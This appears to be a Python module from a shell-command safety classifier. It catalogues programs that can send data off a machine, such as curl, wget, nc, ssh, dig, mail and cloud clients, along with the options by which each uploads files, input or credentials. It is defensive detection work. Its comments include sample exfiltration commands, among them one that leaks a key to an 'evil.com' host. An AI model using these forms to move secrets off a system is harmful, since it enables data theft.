"""The programs that can send data off the machine, and how each names where and what.

For each program: which of its options take a value (so operands are found where the program
finds them), which options upload a file or the command's input (`curl -d @f`, `-T -`, `-F
x=@f`, `wget --post-file`, `http x=@f`), whether it sends its standard input (`nc`, `ssh`,
`mail`), and which operands name the destination (a URL, `[user@]host`, `host port`,
`host:path`, a DNS name). `egress` turns this into `Destination`s and the classifier's rule.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal

from aish.safety.bash.command_walk import Arg

__all__ = ["PROGRAMS", "Options", "Program", "read_options", "uploaded"]

# How a program names its destination. A "client" talks to the service its configuration (or
# an option like `docker -H`, `kubectl --server`, `npm --registry`) names: every word can end
# up in a request, a host name or a query string there.
Shape = Literal[
    "url", "host_port", "ssh", "copy", "git", "lookup", "probe", "mail", "socat", "client"
]
# How an upload option's value names what leaves: a file (`-T f`), `@file` (`-d @f`),
# `name@file` (`--data-urlencode n@f`), `name=@file` or `name=<file` (`-F x=@f`), a cookie
# file unless the value has `=`, credentials the program reads by itself (`--netrc`), or a
# curl variable, which may also be imported from the environment (`--variable %TOKEN`).
Upload = Literal["file", "at", "named_at", "form", "cookie", "netrc", "variable"]


def _opts(text: str) -> frozenset[str]:
    return frozenset(text.split())


@dataclass(frozen=True)
class Program:
    shape: Shape
    short_values: str = ""
    long_values: frozenset[str] = frozenset()
    uploads: tuple[tuple[str, Upload], ...] = ()
    sends_input: bool = False
    default_port: int | None = None
    # The option that keeps its input from being sent (`ssh -n`).
    input_off: str | None = None


# Every curl option whose value can name a file whose contents then leave: as a header (also
# to a proxy), as the query (`--url-query @f`, `n@f`, `+@f`), as an ETag (`--etag-compare f`
# sends the file's contents in If-None-Match), or as the URLs to fetch (`--url @f`: a host
# read from a file is looked up by name, which sends it to the DNS server).
_CURL_UPLOADS: tuple[tuple[str, Upload], ...] = (
    *((o, "at") for o in _opts("-d --data --data-ascii --data-binary --json -H --header")),
    *((o, "at") for o in _opts("--proxy-header --url")),
    *((o, "named_at") for o in _opts("--data-urlencode --url-query")),
    ("--variable", "variable"),
    ("--etag-compare", "file"),
    *((o, "form") for o in _opts("-F --form")),
    *((o, "file") for o in _opts("-T --upload-file -K --config --netrc-file")),
    ("-b", "cookie"),
    ("--cookie", "cookie"),
    *((o, "netrc") for o in _opts("-n --netrc --netrc-optional")),
)
_CURL = Program(
    "url",
    short_values="odXHuAeTFKmwxzYyrbcECQUtP",
    long_values=_opts(
        "--output --request --header --user --user-agent --referer --proxy --max-time --data "
        "--data-raw --data-binary --data-ascii --data-urlencode --json --form --form-string "
        "--upload-file --config --cookie --cookie-jar --cert --cacert --key --url --variable "
        "--write-out --netrc-file --connect-timeout --retry --resolve --connect-to --interface "
        "--output-dir --range --continue-at --proxy-user --oauth2-bearer --quote --limit-rate "
        "--max-filesize --dump-header --trace --trace-ascii --stderr --expand-url "
        "--url-query --proxy-header --etag-compare --etag-save --expand-data --unix-socket "
        "--abstract-unix-socket"
    ),
    uploads=_CURL_UPLOADS,
)
_WGET = Program(
    "url",
    short_values="OoaePTtwiUQDABlIXR",
    long_values=_opts(
        "--output-document --output-file --append-output --execute --directory-prefix "
        "--timeout --wait --input-file --quota --header --user --password --post-data "
        "--post-file --body-data --body-file --method --load-cookies --save-cookies --user-agent "
        "--referer --tries --config --level --domains --accept --reject --bind-address"
    ),
    uploads=(
        ("--post-file", "file"),
        ("--body-file", "file"),
        ("-i", "file"),
        ("--input-file", "file"),
        ("--load-cookies", "file"),
        ("--config", "file"),
    ),
)
_HTTPIE = Program(
    "url",
    short_values="abAovpO",
    long_values=_opts("--auth --auth-type --output --verify --print --session --timeout --cert"),
    sends_input=True,  # with input on a pipe, httpie and xh send it as the request body
)
_NC = Program("host_port", short_values="pswiqxXeIOTcW", sends_input=True)
_SSH = Program(
    "ssh",
    short_values="BbcDEeFIiJLlmOopQRSWw",
    sends_input=True,
    default_port=22,
    input_off="-n",
)
_SCP = Program("copy", short_values="cFiJloPSX", default_port=22)
_RSYNC = Program(
    "copy",
    short_values="eTfBM",
    long_values=_opts(
        "--rsh --exclude --include --exclude-from --include-from --files-from --port "
        "--rsync-path --password-file --filter --temp-dir --log-file --bwlimit --timeout --chmod"
    ),
    uploads=(("--files-from", "file"), ("--password-file", "file")),
    default_port=873,
)
# `dig -f FILE` looks up every name in FILE; nslookup with no name (or `-`) reads the names
# to look up from its input: either way what leaves is a file's contents, as DNS queries.
_LOOKUP = Program("lookup", short_values="bcfkpqtxy", uploads=(("-f", "file"),), default_port=53)
_NSLOOKUP = Program("lookup", short_values="", sends_input=True, default_port=53)
# Clients of a remote API or registry that the read-only tables vouch for when their words are
# literal (`docker ps`, `kubectl get pods`, `npm view x`): a word computed at run time goes
# to the service (`docker search $(cat key)`, `kubectl --token "$TOKEN"`), or names it
# (`docker -H tcp://$(cat key).evil.com`, a DNS query that carries the key).
_CLIENT = Program("client")
_CLIENTS = (
    "docker podman nerdctl kubectl oc helm aws gcloud az gh pip pip3 npm pnpm yarn brew "
    "terraform tofu"
)
_PROBE = Program("probe", short_values="cfiIlmMpQsStTwWgqhHzNPF", default_port=None)
_MAIL = Program(
    "mail",
    short_values="sSbcaArfFqtoOC",
    uploads=(("-a", "file"), ("-A", "file"), ("--attach", "file")),
    sends_input=True,
    default_port=25,
)

PROGRAMS: dict[str, Program] = {
    "curl": _CURL,
    "curlie": _CURL,
    "wget": _WGET,
    "wget2": _WGET,
    "aria2c": Program(
        "url",
        short_values="dioxsjU",
        long_values=_opts("--dir --out --input-file --header --load-cookies"),
        uploads=(("-i", "file"), ("--input-file", "file"), ("--load-cookies", "file")),
    ),
    "http": _HTTPIE,
    "https": _HTTPIE,
    "httpie": _HTTPIE,
    "xh": _HTTPIE,
    "xhs": _HTTPIE,
    "lynx": Program("url"),
    "w3m": Program("url"),
    "links": Program("url"),
    "elinks": Program("url"),
    "websocat": Program("url", sends_input=True),
    "nc": _NC,
    "ncat": _NC,
    "netcat": _NC,
    "telnet": Program("host_port", short_values="bleknX", sends_input=True, default_port=23),
    "socat": Program("socat", sends_input=True),
    "openssl": Program("host_port", sends_input=True, default_port=443),
    "ftp": Program("host_port", sends_input=True, default_port=21),
    "lftp": Program("host_port", short_values="upefc", sends_input=True, default_port=21),
    "tftp": Program("host_port", sends_input=True, default_port=69),
    "ssh": _SSH,
    "scp": _SCP,
    "sftp": Program(
        "copy", short_values="BbcDFiJlPRSso", uploads=(("-b", "file"),), sends_input=True
    ),
    "rsync": _RSYNC,
    "git": Program("git"),
    "dig": _LOOKUP,
    "nslookup": _NSLOOKUP,
    "host": Program("lookup", short_values="cNRtWm", default_port=53),
    "drill": _LOOKUP,
    "getent": Program("lookup", short_values="s", default_port=53),
    "ping": _PROBE,
    "ping6": _PROBE,
    "fping": _PROBE,
    "arping": _PROBE,
    "hping3": _PROBE,
    "traceroute": _PROBE,
    "traceroute6": _PROBE,
    "tracepath": _PROBE,
    "mtr": _PROBE,
    "whois": Program("probe", short_values="hpi", default_port=43),
    "nmap": Program("probe", short_values="piosSDeg"),
    "mail": _MAIL,
    "mailx": _MAIL,
    "s-nail": _MAIL,
    "mutt": _MAIL,
    "sendmail": Program("mail", short_values="fFrRNOoBCLpqVX", sends_input=True),
    "msmtp": Program("mail", short_values="fCaN", sends_input=True),
    **dict.fromkeys(_CLIENTS.split(), _CLIENT),
}


@dataclass(frozen=True)
class Options:
    """A command's words read with its program's value-taking options."""

    pairs: tuple[tuple[str, Arg | None], ...]  # (option, its value) in order
    operands: tuple[Arg, ...]


def read_options(program: Program, args: Sequence[Arg]) -> Options:
    """Options with their values (`-d @f`, `-d@f`, `--data=@f`, `-sSd @f`) and operands."""
    pairs: list[tuple[str, Arg | None]] = []
    operands: list[Arg] = []
    index, ended = 0, False
    while index < len(args):
        arg, value = args[index], args[index].value
        index += 1
        if ended or value is None or not value.startswith("-") or value == "-":
            operands.append(arg)
        elif value == "--":
            ended = True
        elif value.startswith("--"):
            name, equals, attached = value.partition("=")
            if equals:
                pairs.append((name, Arg(attached, attached, attached)))
            elif name in program.long_values and index < len(args):
                pairs.append((name, args[index]))
                index += 1
            else:
                pairs.append((name, None))
        else:
            index = _bundle(program, value, args, index, pairs)
    return Options(tuple(pairs), tuple(operands))


def _bundle(
    program: Program,
    word: str,
    args: Sequence[Arg],
    index: int,
    pairs: list[tuple[str, Arg | None]],
) -> int:
    """`-sSd @f`: each letter an option; the first value-taking one takes the rest or the next."""
    for position, letter in enumerate(word[1:], start=1):
        option = "-" + letter
        if letter not in program.short_values:
            pairs.append((option, None))
            continue
        rest = word[position + 1 :]
        if rest:
            pairs.append((option, Arg(rest, rest, rest)))
        elif index < len(args):
            pairs.append((option, args[index]))
            index += 1
        else:
            pairs.append((option, None))
        break
    return index


_NAMED_AT = re.compile(r"^[^=@]*@(?P<file>.+)")
_FORM_FILE = re.compile(r"^[^=]*=[@<](?P<file>[^;]+)")


def uploaded(kind: Upload, value: Arg | None) -> str | None:
    """What an upload option sends: "the file f", "its input", or None when the value is
    literal data (`-d 'a=1'`, `-b 'k=v'`, `-F 'a=b'`)."""
    if kind == "netrc":
        return "credentials from ~/.netrc"
    if value is None:
        return None
    text = value.value if value.value is not None else value.text
    if kind == "cookie" and "=" in text:
        return None
    if kind == "variable":
        if text.startswith("%"):
            name = re.split(r"[=@]", text[1:], maxsplit=1)[0]
            return f"the environment variable {name}"
        kind = "named_at"
    if kind in ("at", "named_at", "form"):
        pattern = {"at": _AT, "named_at": _NAMED_AT, "form": _FORM_FILE}[kind]
        found = pattern.match(text)
        if found is None:
            return None
        text = found.group("file")
    return "its input" if text in ("-", ".") else f"the file {text}"


_AT = re.compile(r"^@(?P<file>.+)")
